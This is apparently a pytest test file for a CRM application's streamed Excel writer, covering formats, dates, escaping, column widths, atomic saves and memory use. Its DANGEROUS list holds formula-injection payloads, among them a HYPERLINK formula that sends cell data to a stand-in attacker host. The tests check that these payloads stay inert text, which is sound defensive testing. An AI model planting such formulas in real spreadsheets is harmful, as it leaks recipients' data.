"""The streamed .xlsx writer, read back the way a user's spreadsheet program and our own
import would read it (openpyxl for formats, python-calamine for values)."""

from __future__ import annotations

import tracemalloc
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from crmdesk.domain.list_columns import CellKind
from crmdesk.io.xlsx_writer import ColumnFormat, WorkbookWriteError, XlsxWriter

COLUMNS = (
    ColumnFormat("客户名称"),
    ColumnFormat("生日", CellKind.DATE),
    ColumnFormat("金额", CellKind.MONEY),
    ColumnFormat("创建时间", CellKind.DATETIME),
    ColumnFormat("订单数", CellKind.INTEGER),
)
INSTANT = datetime(2024, 1, 5, 3, 4, tzinfo=UTC)
ROW = ("张三", date(1990, 5, 17), Decimal("1234.50"), INSTANT, 7)
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?q="&A2,"click")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)


def write(
    path: Path, rows: Sequence[Sequence[object]], columns: Sequence[ColumnFormat] = COLUMNS
) -> Path:
    with XlsxWriter(path) as writer:
        sheet = writer.add_sheet("客户", columns)
        for row in rows:
            sheet.append(row)
    return path


def test_header_is_styled_frozen_and_filtered(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(write(tmp_path / "out.xlsx", [ROW, ROW, ROW])).active

    assert sheet.title == "客户"
    assert [cell.value for cell in sheet[1]] == ["客户名称", "生日", "金额", "创建时间", "订单数"]
    assert sheet["A1"].font.b and sheet["A1"].fill.fill_type == "solid"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E4"


def test_values_keep_their_types_and_formats(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(write(tmp_path / "out.xlsx", [ROW])).active
    name, birthday, amount, created, orders = sheet[2]

    assert (name.value, name.data_type) == ("张三", "s")
    assert birthday.is_date and birthday.value.date() == date(1990, 5, 17)
    assert birthday.number_format == "yyyy-mm-dd"
    assert amount.value == 1234.5 and amount.number_format == "#,##0.00"
    # An instant shows as the user's wall-clock time: Excel has no time zones.
    assert created.value == INSTANT.astimezone().replace(tzinfo=None)
    assert created.number_format == "yyyy-mm-dd hh:mm"
    assert orders.value == 7 and orders.number_format == "0"


def test_a_value_of_another_type_is_written_as_it_is(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(
        write(tmp_path / "out.xlsx", [(None, "不详", "面议", None, None)])
    ).active

    assert [cell.value for cell in sheet[2]][:3] == [None, "不详", "面议"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_stays_text(tmp_path: Path, text: str) -> None:
    # In a text column and in a date column (where a non-date falls back to text).
    path = write(tmp_path / "out.xlsx", [(text, text, None, None, None)])

    # XML reads a carriage return back as a line feed; the point is that it is text.
    expected = text.replace("\r", "\n")
    sheet = openpyxl.load_workbook(path).active
    for cell in sheet[2][:2]:
        assert (cell.value, cell.data_type) == (expected, "s")
        assert cell.quotePrefix  # stays text when a person edits the cell, too
    values = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert values[1][:2] == [expected, expected]
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_control_characters_are_dropped_tabs_and_newlines_kept(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(
        write(
            tmp_path / "out.xlsx",
            [("a\x01b\x1fc", None, None, None, None), ("x\ty\nz", None, None, None, None)],
        )
    ).active

    assert sheet["A2"].value == "abc"
    assert sheet["A3"].value == "x\ty\nz"


def test_widths_fit_the_text_and_count_cjk_double(tmp_path: Path) -> None:
    columns = (ColumnFormat("名称"), ColumnFormat("Name"), ColumnFormat("Notes"))
    rows = [("上海明辉贸易有限公司", "Shanghai Minghui", "x" * 500)]
    sheet = openpyxl.load_workbook(write(tmp_path / "out.xlsx", rows, columns)).active
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]

    assert widths[0] >= 20  # ten CJK characters take twenty columns
    assert 16 <= widths[1] < widths[0]
    assert widths[2] == 50  # capped


def test_rows_beyond_the_sizing_sample_are_all_written_in_order(tmp_path: Path) -> None:
    rows = [(f"客户{n}", None, Decimal(n), None, n) for n in range(250)]
    path = write(tmp_path / "out.xlsx", rows)

    values = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in values[1:]] == [f"客户{n}" for n in range(250)]
    assert openpyxl.load_workbook(path).active.auto_filter.ref == "A1:E251"


def test_an_empty_sheet_has_its_header(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(write(tmp_path / "out.xlsx", [])).active

    assert sheet["A1"].value == "客户名称"
    assert sheet.auto_filter.ref == "A1:E1"


def test_a_failure_leaves_no_file_and_keeps_the_old_one(tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"the previous export")

    with pytest.raises(RuntimeError), XlsxWriter(target) as writer:
        sheet = writer.add_sheet("客户", COLUMNS)
        for _ in range(300):
            sheet.append(ROW)
        raise RuntimeError("stopped")

    assert target.read_bytes() == b"the previous export"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out.xlsx"]


def test_an_unwritable_folder_is_a_plain_error(tmp_path: Path) -> None:
    target = tmp_path / "missing" / "out.xlsx"

    with pytest.raises(WorkbookWriteError, match="Could not save"):
        write(target, [ROW])
    assert not target.parent.exists()


# --- the hand-written package, read back in full -------------------------------------------


def read_values(path: Path, sheet: int = 0) -> Sequence[Sequence[object]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(sheet).to_python()


def test_a_full_read_finds_values_types_formats_header_look_and_layout(tmp_path: Path) -> None:
    # openpyxl's normal mode parses styles, widths, views and filters, unlike read-only.
    path = write(tmp_path / "out.xlsx", [ROW, ("李四", None, 3, None, 0)])
    sheet = openpyxl.load_workbook(path).active

    header = sheet["B1"]
    assert header.font.b and header.fill.fgColor.rgb == "FFDDEBF7"
    assert header.border.bottom.style == "thin" and header.border.bottom.color.rgb == "FF8EA9C1"
    assert header.alignment.vertical == "center"
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:E3"
    assert sheet.dimensions == "A1:E3"
    assert [sheet.column_dimensions[c].width for c in "AB"] == [10, 12]
    assert [(c.value, c.data_type, c.number_format) for c in sheet[3]] == [
        ("李四", "s", "General"),
        (None, "n", "General"),
        (3, "n", "#,##0.00"),
        (None, "n", "General"),
        (0, "n", "0"),
    ]
    assert read_values(path)[1] == [
        "张三",
        date(1990, 5, 17),
        1234.5,
        INSTANT.astimezone().replace(tzinfo=None),
        7,
    ]


SPECIAL = (
    "Tom & Jerry <b>\"quoted\"</b> 'single'",
    "emoji 😀👨‍👩‍👧 and 中文：上海市浦东新区",
    "  leading and trailing spaces  ",
    "two\nlines\n",
    "\n",
    "]]> &amp; &#13; <![CDATA[",
)


@pytest.mark.parametrize("text", SPECIAL)
def test_special_text_comes_back_exactly(tmp_path: Path, text: str) -> None:
    path = write(tmp_path / "out.xlsx", [(text, None, None, None, None)])

    assert openpyxl.load_workbook(path).active["A2"].value == text
    assert read_values(path)[1][0] == text


def test_characters_an_xlsx_cannot_hold_are_dropped(tmp_path: Path) -> None:
    path = write(tmp_path / "out.xlsx", [("a\x00b\x0bc\ufffed\ud800e", None, None, None, None)])

    assert read_values(path)[1][0] == "abcde"


def test_text_longer_than_a_cell_holds_is_cut(tmp_path: Path) -> None:
    path = write(tmp_path / "out.xlsx", [("x" * 40_000, None, None, None, None)])

    assert read_values(path)[1][0] == "x" * 32_767


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (date(1900, 1, 1), date(1900, 1, 1)),
        (date(1900, 2, 28), date(1900, 2, 28)),  # before Excel's phantom 29 February 1900
        (date(1900, 3, 1), date(1900, 3, 1)),
        (date(2024, 2, 29), date(2024, 2, 29)),
        (date(9999, 12, 31), date(9999, 12, 31)),
        # A date column shows the local day of an instant.
        (datetime(2024, 3, 10, 23, 30, tzinfo=UTC), datetime(2024, 3, 10, 23, 30, tzinfo=UTC)),
    ],
)
def test_dates_land_on_their_day(tmp_path: Path, value: date, expected: date) -> None:
    path = write(tmp_path / "out.xlsx", [(None, value, None, None, None)])

    day = expected.astimezone().date() if isinstance(expected, datetime) else expected
    cell = openpyxl.load_workbook(path).active["B2"]
    assert cell.is_date and cell.value.date() == day
    assert read_values(path)[1][1] == day


@pytest.mark.parametrize(
    "instant",
    [
        datetime(2024, 1, 5, 3, 4, tzinfo=UTC),
        datetime(2024, 12, 31, 23, 59, 59, tzinfo=UTC),
        datetime(2024, 6, 1, 12, 0),  # naive: already wall-clock time
    ],
)
def test_datetimes_keep_their_wall_clock_time(tmp_path: Path, instant: datetime) -> None:
    path = write(tmp_path / "out.xlsx", [(None, None, None, instant, None)])

    wall = instant.astimezone().replace(tzinfo=None) if instant.tzinfo else instant
    assert openpyxl.load_workbook(path).active["D2"].value == wall
    assert read_values(path)[1][3] == wall


def test_numbers_are_written_exactly(tmp_path: Path) -> None:
    columns = (ColumnFormat("n", CellKind.INTEGER), ColumnFormat("m", CellKind.MONEY))
    rows = [
        (2**53 - 1, Decimal("0.10")),
        (-5, 0.1 + 0.2),
        (True, Decimal("-1234567.89")),
        (float("nan"), Decimal("1E+3")),
    ]
    path = write(tmp_path / "out.xlsx", rows, columns)

    sheet = openpyxl.load_workbook(path).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        [2**53 - 1, 0.1],
        [-5, 0.1 + 0.2],
        [True, -1234567.89],  # a bool in a number column stays a bool
        [None, 1000],
    ]
    assert sheet["A4"].data_type == "b"


def test_untyped_columns_keep_each_values_own_type(tmp_path: Path) -> None:
    # The error workbook of an import gives back raw cells of any type under text headers.
    row = ("text", 12, 2.5, True, date(2024, 1, 5), datetime(2024, 1, 5, 8, 30, 15))
    columns = [ColumnFormat(f"c{n}") for n in range(len(row))]
    path = write(tmp_path / "out.xlsx", [row], columns)

    cells = openpyxl.load_workbook(path).active[2]
    assert [cell.value for cell in cells] == [
        "text",
        12,
        2.5,
        True,
        datetime(2024, 1, 5),
        datetime(2024, 1, 5, 8, 30, 15),
    ]
    assert cells[4].number_format == "yyyy-mm-dd"
    assert cells[5].number_format == "yyyy-mm-dd h:mm:ss"


def test_several_sheets_filled_in_turn_each_get_their_rows(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    columns = (ColumnFormat("名称"), ColumnFormat("数量", CellKind.INTEGER))
    with XlsxWriter(path) as writer:
        first = writer.add_sheet("客户", columns)
        second = writer.add_sheet("客户", columns)  # the same title twice
        third = writer.add_sheet("R&D 'notes' <1>", columns)
        for n in range(150):
            for sheet in (first, second, third):
                sheet.append((f"{sheet.title}-{n}", n))

    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["客户", "客户1", "R&D 'notes' <1>"]
    for sheet in workbook.worksheets:
        assert sheet.auto_filter.ref == "A1:B151" and sheet.freeze_panes == "A2"
        assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
            f"{sheet.title}-{n}" for n in range(150)
        ]


def test_a_workbook_without_sheets_still_opens(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    with XlsxWriter(path):
        pass

    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Sheet"] and workbook.active.max_row == 1
    assert read_values(path) == []


def test_a_cancelled_write_leaves_no_file_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(scratch))
    target = tmp_path / "out.xlsx"

    with pytest.raises(KeyboardInterrupt), XlsxWriter(target) as writer:
        for title in ("a", "b"):
            sheet = writer.add_sheet(title, COLUMNS)
            for _ in range(1_000):
                sheet.append(ROW)
        raise KeyboardInterrupt

    assert sorted(path.name for path in tmp_path.rglob("*")) == ["scratch"]


def test_memory_stays_flat_however_many_rows(tmp_path: Path) -> None:
    def peak_bytes(rows: int) -> int:
        columns = (ColumnFormat("名称"), ColumnFormat("金额", CellKind.MONEY))
        tracemalloc.start()
        try:
            with XlsxWriter(tmp_path / f"{rows}.xlsx") as writer:
                sheet = writer.add_sheet("客户", columns)
                for n in range(rows):
                    sheet.append((f"上海明辉贸易有限公司 {n}", Decimal(n)))
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small, large = peak_bytes(10_000), peak_bytes(100_000)

    # Ten times the rows, not ten times the memory: the rows never pile up in memory.
    assert large < small * 1.5
